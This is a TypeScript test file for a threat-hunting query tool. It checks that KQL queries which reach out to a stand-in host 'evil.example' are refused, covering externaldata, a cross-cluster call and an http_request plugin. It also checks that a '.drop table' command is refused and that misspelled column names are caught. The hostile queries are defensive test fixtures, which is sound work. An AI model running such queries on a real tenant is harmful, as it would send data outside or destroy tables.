import { beforeEach, describe, expect, it } from "vitest";
import { useEmulatedServer } from "../support/emulated-server.ts";

const server = useEmulatedServer();
const hunt = (query: string, more: Readonly<Record<string, unknown>> = {}) =>
  server.client.call("run_hunting_query", { instance: "Secret", query, ...more });
const sentQueries = (): readonly string[] =>
  server.emulator.control.requestsTo("graph").map(({ body }) => String(JSON.parse(body).Query));

beforeEach(() => server.emulator.control.reset());

describe("a query that must not leave the server", () => {
  it.each([
    { name: "externaldata", query: 'externaldata(a:string)["https://evil.example/?q=1"]' },
    { name: "another cluster", query: 'cluster("evil.example").database("d").T' },
    { name: "a network plugin", query: 'evaluate http_request("https://evil.example")' },
    { name: "a command", query: ".drop table EmailEvents" },
  ])("is refused, also without the check: $name", async ({ query }) => {
    for (const more of [{}, { check: false }]) {
      const refused = await hunt(query, more);
      expect(refused.isError).toBe(true);
      expect(refused.text).toMatch(/Error \(query_refused\)[\s\S]*Next step: ./);
    }
    expect(sentQueries()).toEqual([]);
  });
});

describe("a query with a mistake", () => {
  const query = "EmailEvents | where Subjct == 'Invoice 1'";

  it("is not sent: line, column and the right name are in the answer", async () => {
    const refused = await hunt(query);
    expect(refused.isError).toBe(true);
    expect(refused.text).toMatch(/Subjct/);
    expect(refused.text).toMatch(/\bSubject\b/);
    expect(refused.text).toMatch(/check: false|check=false|"check": false/);
    expect(sentQueries()).not.toContain(query);
  });

  it("is sent as it is when the check is switched off", async () => {
    const { structured } = await hunt(query, { check: false });
    expect(structured).toMatchObject({ status: "ok" });
    expect(sentQueries()).toEqual([query]);
  });

  it("is sent when the tenant itself knows the column", async () => {
    server.emulator.control.hunt = (text) =>
      text.includes("getschema")
        ? {
            schema: ["ColumnName", "ColumnType"].map((name) => ({ name, type: "String" })),
            results: [{ ColumnName: "Subjct", ColumnType: "string" }],
          }
        : { schema: [{ name: "Subjct", type: "String" }], results: [{ Subjct: "of this tenant" }] };
    await server.client.call("connect", { instance: "Secret" });
    expect((await hunt("UrlClickEvents | where Subjct == 'x'")).text).toContain("of this tenant");
  });
});
